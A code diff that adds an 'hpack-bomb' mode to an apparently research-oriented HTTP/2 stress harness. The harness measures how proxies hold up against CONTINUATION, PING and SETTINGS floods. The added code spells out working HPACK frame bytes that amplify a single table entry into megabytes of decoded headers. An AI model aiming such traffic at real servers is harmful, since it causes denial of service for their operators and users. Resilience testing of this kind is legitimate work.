@@ -14,6 +14,8 @@ one, and sends at a paced rate:
   continuation  one HEADERS without END_HEADERS, then CONTINUATION frames, RATE a second
   ping          PING frames, RATE a second
   settings      empty SETTINGS frames, RATE a second
+  hpack-bomb    one 4,000-byte header put in the HPACK table, then RATE / 10 streams a second,
+                each a HEADERS naming that entry 1,000 times (4 MB decoded from 1 KB sent)
 
 Each round runs the victims twice: once beside the attacker sending the same bytes to a sink
 (a socket here that reads and drops them: the client side's CPU is the same, the proxy sees
@@ -69,6 +71,10 @@ class Attacker:
         start = PREFACE + frame(4, 0, 0)  # our SETTINGS
         if self.mode == "continuation":  # the header block that never ends
             start += frame(1, 0x1, 1, BLOCK[:4])  # HEADERS, END_STREAM, no END_HEADERS
+        if self.mode == "hpack-bomb":  # stream 1 puts x-bomb: b...b in the table (index 62)
+            big = b"\x40\x06x-bomb\x7f\xa1\x1e"  # a new name, its value 4,000 bytes long
+            start += frame(1, 0x5, 1, BLOCK + big + b"b" * 4000)
+            self.sid = 3
         return start
 
     def batch(self, n):
@@ -85,6 +91,9 @@ class Attacker:
                 out.append(frame(6, 0, 0, b"12345678"))
             elif self.mode == "settings":
                 out.append(frame(4, 0, 0))
+            elif self.mode == "hpack-bomb":
+                out.append(frame(1, 0x5, self.sid, BLOCK + b"\xbe" * 1000))
+                self.sid += 2
         return b"".join(out)
 
 
@@ -94,7 +103,7 @@ def attack(target, mode, rate, seconds, source):
     did as JSON (frames counted once written to the socket)."""
     host, port = target.rsplit(":", 1)
     a, conns, sent, closed = Attacker(mode), 0, 0, 0
-    per_batch = max(1, int(rate * BATCH_S))
+    per_batch = max(1, int((rate / 10 if mode == "hpack-bomb" else rate) * BATCH_S))
     end = time.monotonic() + seconds
     s, due = None, time.monotonic()
     while time.monotonic() < end:
